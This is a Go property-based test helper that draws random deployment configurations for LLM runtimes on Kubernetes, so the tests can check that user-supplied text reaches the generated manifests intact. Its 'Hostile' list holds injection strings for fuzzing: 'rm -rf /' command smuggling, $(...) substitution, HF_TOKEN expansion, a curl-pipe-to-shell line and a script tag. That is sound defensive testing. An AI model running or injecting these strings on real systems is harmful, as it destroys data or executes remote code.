package configtest

import (
	"strings"

	"pgregory.net/rapid"

	"github.com/kubefoundry/kubefoundry/api"
	"github.com/kubefoundry/kubefoundry/runtimes"
)

// Expect is what the deployment of a configuration has to be.
type Expect struct {
	Model, Served string
	Engine        api.Engine
	Mode          api.Mode
	// Replicas of the roles that hold the model.
	Replicas map[string]int
	GPUs     int // of all of them
	// Texts are the users' own that have to reach the manifest as they are.
	Texts []string
}

// Draw draws a configuration of a runtime.
func Draw(t *rapid.T, provider string) (*api.DeploymentConfig, Expect) {
	c := &api.DeploymentConfig{Provider: provider, Name: name.Draw(t, "name"), Namespace: "default"}
	e := Expect{Mode: api.ModeAggregated, Replicas: map[string]int{}}
	c.ModelId = Text.Draw(t, "model")
	if rapid.Bool().Draw(t, "served") {
		c.ServedModelName = Text.Draw(t, "served name")
	}
	switch provider {
	case "kaito":
		drawKaito(t, c, &e)
	case "kuberay":
		drawKubeRay(t, c, &e)
	case "dynamo":
		drawDynamo(t, c, &e)
	}
	common(t, c, &e)
	return c, e
}

var name = rapid.StringMatching(`[a-z]([a-z0-9-]{0,20}[a-z0-9])?`)

// Hostile are texts that are code to somebody.
var Hostile = []string{
	`"; rm -rf / #`, `'; rm -rf / #`, "$(touch /tmp/x)", "`touch /tmp/x`", "a b", "a\nb: c\n- d", "--trust-remote-code", "-c",
	"$(HF_TOKEN)", "$$(HF_TOKEN)", "$HF_TOKEN", "${HF_TOKEN}", "$$", "a && b || c; d", "*", "~", "{}", "[]", "null", "true", "1", "0x10", "1e3",
	"key: value", "# no comment", "\"quoted\"", "it's", `back\slash`, "tab\there", " lead and trail ", "ends with newline\n", "|", ">", "&anchor", "!tag", "%",
	"org/model --model other/model", "org/model; curl http://example.com | sh", "ünï/cödé-模型", "\u2028", "\u0085", "<script>", "a=b=c", "--model=x",
}

// Text is some text that a process can be given: hostile, plain, or anything.
var Text = rapid.OneOf(
	rapid.SampledFrom(Hostile),
	rapid.SampledFrom([]string{"Qwen/Qwen3-0.6B", "meta-llama/Llama-3.2-1B-Instruct", "/models/mine"}),
	rapid.StringOfN(rapid.Rune(), 1, 30, -1).Filter(func(s string) bool { return !strings.ContainsRune(s, 0) }),
)

func drawKaito(t *rapid.T, c *api.DeploymentConfig, e *Expect) {
	e.Replicas[runtimes.RoleWorker] = replicas(t, "replicas", &c.Replicas)
	e.Engine = api.EngineLlamacpp
	c.ModelSource = rapid.SampledFrom([]string{"premade", "huggingface", "vllm"}).Draw(t, "source")
	c.ComputeType = rapid.SampledFrom([]string{"", "cpu", "gpu"}).Draw(t, "compute")
	each := gpus(t, "gpus", resources(c))
	switch c.ModelSource {
	case "premade":
		id := rapid.SampledFrom([]string{"llama3.2:1b", "gpt-oss:20b", "gpt:oss-20b", "phi4-14b"}).Draw(t, "premade")
		c.PremadeModel = id
		e.Model = map[string]string{
			"llama3.2:1b": "llama-3.2-1b-instruct", "gpt-oss:20b": "gpt-oss-20b", "gpt:oss-20b": "gpt-oss-20b", "phi4-14b": "phi-4-14b-instruct",
		}[id]
		e.Served = e.Model
		c.ServedModelName, c.ModelId = "", ""
	case "huggingface":
		c.GgufFile = rapid.SampledFrom([]string{"model-Q4_K_M.gguf", "a b'\"$(x).gguf", "sub/dir/x.Q8_0.gguf"}).Draw(t, "file")
		c.GgufRunMode = rapid.SampledFrom([]string{"", "direct", "build"}).Draw(t, "run")
		if c.GgufRunMode == "build" && rapid.Bool().Draw(t, "own image") {
			c.ImageRef = "registry.example.com:5000/team/model@sha256:" + strings.Repeat("ab", 32)
		}
		e.Model, e.Served = c.ModelId+"/"+c.GgufFile, c.Name
		e.Texts = append(e.Texts, e.Model)
		c.ServedModelName = ""
	case "vllm":
		e.Engine, e.Model, e.Served = api.EngineVllm, c.ModelId, c.ServedModelName
		e.Texts = append(e.Texts, c.ModelId, c.ServedModelName)
		c.MaxModelLen = rapid.SampledFrom([]int{0, 4096}).Draw(t, "length")
	}
	if c.ModelSource != "vllm" && c.ComputeType != "gpu" {
		each = 0
	}
	if e.Served == "" {
		e.Served = c.Name
	}
	e.GPUs = each * e.Replicas[runtimes.RoleWorker]
	if rapid.Bool().Draw(t, "machine") {
		c.InstanceType = "Standard_NC24ads_A100_v4"
	}
	if rapid.Bool().Draw(t, "labels of nodes") {
		c.LabelSelector = map[string]string{"apps": "llm"}
	}
	if rapid.Bool().Draw(t, "arguments") {
		c.ExtraArgs = append(c.ExtraArgs, "--extra="+Text.Draw(t, "argument"))
	}
}

func drawKubeRay(t *rapid.T, c *api.DeploymentConfig, e *Expect) {
	e.Engine, e.Model, e.Served = api.EngineVllm, c.ModelId, c.ServedModelName
	e.Texts = append(e.Texts, c.ModelId, c.ServedModelName)
	if e.Served == "" {
		e.Served = c.ModelId
	}
	c.Engine = rapid.SampledFrom([]string{"", "vllm"}).Draw(t, "engine")
	drawModes(t, c, e)
	c.AcceleratorType = rapid.SampledFrom([]string{"", "A10G"}).Draw(t, "accelerator")
	if c.Mode == "" && rapid.Bool().Draw(t, "autoscaling") {
		low, high := 1, 4
		c.MinReplicas, c.MaxReplicas = &low, &high
		n := min(max(e.Replicas[runtimes.RoleWorker], low), high)
		e.GPUs = e.GPUs / max(e.Replicas[runtimes.RoleWorker], 1) * n
		if e.Replicas[runtimes.RoleWorker] == 0 {
			each := 1
			if c.Resources != nil && c.Resources.Gpu != nil {
				each = *c.Resources.Gpu
			}
			e.GPUs = each * n
		}
		e.Replicas[runtimes.RoleWorker] = n
	}
	if rapid.Bool().Draw(t, "sizes") {
		c.HeadCpu, c.HeadMemory, c.WorkerCpu, c.WorkerMemory = "1", "4Gi", "500m", "2Gi"
	}
	c.KvConnector = rapid.SampledFrom([]string{"", "NixlConnector", "SimpleConnector"}).Draw(t, "connector")
}

func drawDynamo(t *rapid.T, c *api.DeploymentConfig, e *Expect) {
	c.Engine = rapid.SampledFrom([]string{"vllm", "sglang", "trtllm"}).Draw(t, "engine")
	e.Engine, e.Model, e.Served = api.Engine(c.Engine), c.ModelId, c.ServedModelName
	e.Texts = append(e.Texts, c.ModelId, c.ServedModelName)
	if e.Served == "" {
		e.Served = c.Name
	}
	drawModes(t, c, e)
	c.RouterMode = rapid.SampledFrom([]string{"", "none", "kv", "round-robin"}).Draw(t, "router")
	if rapid.Bool().Draw(t, "arguments") {
		c.ExtraArgs = append(c.ExtraArgs, "--extra="+Text.Draw(t, "argument"))
	}
}

// drawModes draws the mode and what goes with it.
func drawModes(t *rapid.T, c *api.DeploymentConfig, e *Expect) {
	if !rapid.Bool().Draw(t, "disaggregated") {
		n := replicas(t, "replicas", &c.Replicas)
		e.Replicas[runtimes.RoleWorker] = n
		e.GPUs = n * gpus(t, "gpus", resources(c))
		return
	}
	c.Mode, e.Mode = "disaggregated", api.ModeDisaggregated
	prefill, decode := replicas(t, "prefill", &c.PrefillReplicas), replicas(t, "decode", &c.DecodeReplicas)
	e.Replicas[runtimes.RolePrefill], e.Replicas[runtimes.RoleDecode] = prefill, decode
	e.GPUs = prefill*gpus(t, "prefill GPUs", &c.PrefillGpus) + decode*gpus(t, "decode GPUs", &c.DecodeGpus)
}

func resources(c *api.DeploymentConfig) **int {
	c.Resources = &api.ConfigResources{}
	return &c.Resources.Gpu
}

func replicas(t *rapid.T, label string, field **int) int {
	return drawInt(t, label, field, []int{0, 1, 2, 7})
}

func gpus(t *rapid.T, label string, field **int) int {
	return drawInt(t, label, field, []int{0, 1, 2, 8})
}

// drawInt draws one of the numbers, or leaves the field out, which means 1.
func drawInt(t *rapid.T, label string, field **int, numbers []int) int {
	if rapid.Bool().Draw(t, label+" left out") {
		return 1
	}
	n := rapid.SampledFrom(numbers).Draw(t, label)
	*field = &n
	return n
}

// common draws what every runtime takes.
func common(t *rapid.T, c *api.DeploymentConfig, e *Expect) {
	maybe := func(label string, do func()) {
		if rapid.Bool().Draw(t, label) {
			do()
		}
	}
	truth := func(label string, field **bool) {
		maybe(label, func() {
			is := rapid.Bool().Draw(t, label+" is")
			*field = &is
		})
	}
	truth("eager", &c.EnforceEager)
	truth("prefix caching", &c.EnablePrefixCaching)
	truth("chunked prefill", &c.EnableChunkedPrefill)
	c.TrustRemoteCode = rapid.Bool().Draw(t, "remote code")
	maybe("context", func() { c.ContextLength = rapid.IntRange(1, 1<<20).Draw(t, "length of context") })
	maybe("memory", func() { c.GpuMemoryUtilization = 0.85 })
	maybe("sequences", func() { c.MaxNumSeqs = 64 })
	maybe("secret", func() { c.HfTokenSecret = "hf-token-secret" })
	maybe("image", func() { c.Image = "registry.example.com/engine:1.2.3" })
	maybe("engine arguments", func() {
		value := Text.Draw(t, "value")
		c.EngineArgs = map[string]any{
			"enable-lora": true, "quiet": false, "nothing": nil, "max-loras": 4, "dtype": value, "limits": map[string]any{"image": 2.0},
		}
		e.Texts = append(e.Texts, value)
	})
	if len(c.ExtraArgs) > 0 {
		_, value, _ := strings.Cut(c.ExtraArgs[0], "=")
		e.Texts = append(e.Texts, value)
	}
	maybe("env", func() {
		value := Text.Draw(t, "value of variable")
		c.Env = []api.ConfigEnv{{Name: "HOSTILE", Value: &value}, {Name: "KEY", SecretRef: &api.ConfigSecretRef{Name: "secret", Key: "key"}}, {Name: "EMPTY"}}
		e.Texts = append(e.Texts, value)
	})
	maybe("labels", func() { c.Labels = map[string]string{"team": "a", "example.com/cost": "b"} })
	maybe("annotations", func() { c.Annotations = map[string]string{"example.com/note": Text.Draw(t, "note")} })
	maybe("nodes", func() { c.NodeSelector = map[string]string{"example.com/pool": "gpus"} })
	maybe("tolerations", func() {
		seconds := int64(60)
		c.Tolerations = []api.ConfigToleration{
			{Key: "example.com/spot", Operator: "Equal", Value: "true", Effect: "NoSchedule"},
			{Operator: "Exists", Effect: "NoExecute", TolerationSeconds: &seconds},
		}
	})
	maybe("pull secrets", func() { c.ImagePullSecrets = []string{"registry"} })
	maybe("amounts", func() {
		if c.Resources == nil {
			c.Resources = &api.ConfigResources{}
		}
		c.Resources.Cpu, c.Resources.Memory = "3", "12Gi"
	})
	maybe("storage", func() {
		c.Storage = rapid.SampledFrom([]*api.ConfigStorage{
			{Size: "100Gi"}, {Size: "1Ti", StorageClass: "fast", AccessMode: "ReadWriteMany", MountPath: "/cache/models"}, {Claim: "shared-models"},
		}).Draw(t, "store")
	})
	maybe("overrides", func() {
		c.Overrides = map[string]any{"metadata": map[string]any{"annotations": map[string]any{"example.com/overridden": "yes"}}}
	})
}
